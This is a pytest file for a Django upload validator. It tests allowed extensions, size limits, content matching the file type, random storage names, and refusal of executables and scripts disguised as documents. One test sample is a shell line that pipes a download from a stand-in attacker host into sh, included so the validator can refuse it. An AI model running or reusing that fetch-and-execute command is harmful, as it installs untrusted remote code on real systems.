"""Uploaded documents: allow-list, size limit, content matching the extension, random names."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from arusha.core.uploads import RandomName, validate_document


def test_a_real_pdf_is_accepted() -> None:
    validate_document(SimpleUploadedFile("minutes.pdf", b"%PDF-1.7\n..."))


def test_plain_text_is_accepted() -> None:
    validate_document(SimpleUploadedFile("notes.txt", b"Meeting notes"))


def test_a_file_renamed_to_pdf_is_refused() -> None:
    with pytest.raises(ValidationError) as refused:
        validate_document(SimpleUploadedFile("minutes.pdf", b"GIF89a not a pdf"))
    assert refused.value.code == "content_mismatch"


def test_an_unlisted_extension_is_refused() -> None:
    with pytest.raises(ValidationError):
        validate_document(SimpleUploadedFile("tool.exe", b"MZ\x90\x00"))


def test_a_file_over_the_limit_is_refused(settings: object) -> None:
    big = SimpleUploadedFile("big.txt", b"x" * (20 * 1024 * 1024 + 1))
    with pytest.raises(ValidationError) as refused:
        validate_document(big)
    assert refused.value.code == "too_large"


def test_stored_names_are_random_and_keep_only_the_extension() -> None:
    name = RandomName("assessments")(None, "Informe confidencial de Juan Pérez.PDF")  # type: ignore[arg-type]
    assert name.startswith("assessments/")
    assert name.endswith(".pdf")
    assert "Juan" not in name


def _zip(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return buffer.getvalue()


WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48


@pytest.mark.parametrize(
    "content",
    [
        WINDOWS_PROGRAM,
        b"\x7fELF\x02\x01\x01\x00",
        b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",
        b"\xca\xfe\xba\xbe\x00\x00\x00\x02",
        b"#!/bin/sh\ncurl http://evil.example | sh\n",
    ],
)
@pytest.mark.parametrize("name", ["notes.txt", "minutes.pdf", "photo.png"])
def test_a_program_is_refused_whatever_its_name(content: bytes, name: str) -> None:
    with pytest.raises(ValidationError) as refused:
        validate_document(SimpleUploadedFile(name, content))
    assert refused.value.code == "program"
    assert (
        "The file is a program or a script: its content does not match its type."
        in refused.value.messages
    )


@pytest.mark.parametrize(
    "content",
    [
        b"Acta de la reuni\xc3\xb3n\r\n\tPunto 1: \xe2\x82\xac 20\x0c",  # UTF-8, tab, form feed
        b"Acta de la reuni\xf3n: 20 \x80\n",  # Latin-1 / Windows-1252
        "Relevé des décisions\n".encode("utf-16"),  # with its byte-order mark
        b"MZ is the code of the Manzanillo office\n",
        b"",
    ],
)
def test_text_in_the_usual_encodings_is_accepted(content: bytes) -> None:
    validate_document(SimpleUploadedFile("notes.txt", content))


@pytest.mark.parametrize(
    "content",
    [
        b"looks like text\x00\x00\x00 but has NULs",
        b"\x1b[31mterminal escape\x1b[0m",
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00",
        b"x" * 100_000 + b"\x01",  # far past the first bytes
    ],
)
def test_binary_content_named_txt_is_refused(content: bytes) -> None:
    with pytest.raises(ValidationError) as refused:
        validate_document(SimpleUploadedFile("notes.txt", content))
    assert refused.value.code == "content_mismatch"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.docx", _zip(**{"[Content_Types].xml": b"<Types/>", "word__document.xml": b""})),
        ("table.xlsx", _zip(**{"[Content_Types].xml": b"<Types/>", "xl__workbook.xml": b""})),
        ("report.odt", _zip(mimetype=b"application/vnd.oasis.opendocument.text")),
        ("table.ods", _zip(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")),
        ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
        ("photo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
    ],
)
def test_office_files_and_images_of_their_own_type_are_accepted(name: str, content: bytes) -> None:
    validate_document(SimpleUploadedFile(name, content))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.docx", _zip(**{"[Content_Types].xml": b"<Types/>", "xl__workbook.xml": b""})),
        ("table.xlsx", _zip(**{"tool.exe": WINDOWS_PROGRAM})),
        ("report.odt", _zip(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")),
        ("table.ods", _zip(**{"content.xml": b"<x/>"})),
        ("report.docx", b"PK\x03\x04 but not a zip"),
        ("photo.png", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
        ("photo.jpg", b"%PDF-1.7\n"),
        ("minutes.pdf", b"\x89PNG\r\n\x1a\n"),
    ],
)
def test_a_file_whose_content_is_another_type_is_refused(name: str, content: bytes) -> None:
    with pytest.raises(ValidationError) as refused:
        validate_document(SimpleUploadedFile(name, content))
    assert refused.value.code == "content_mismatch"
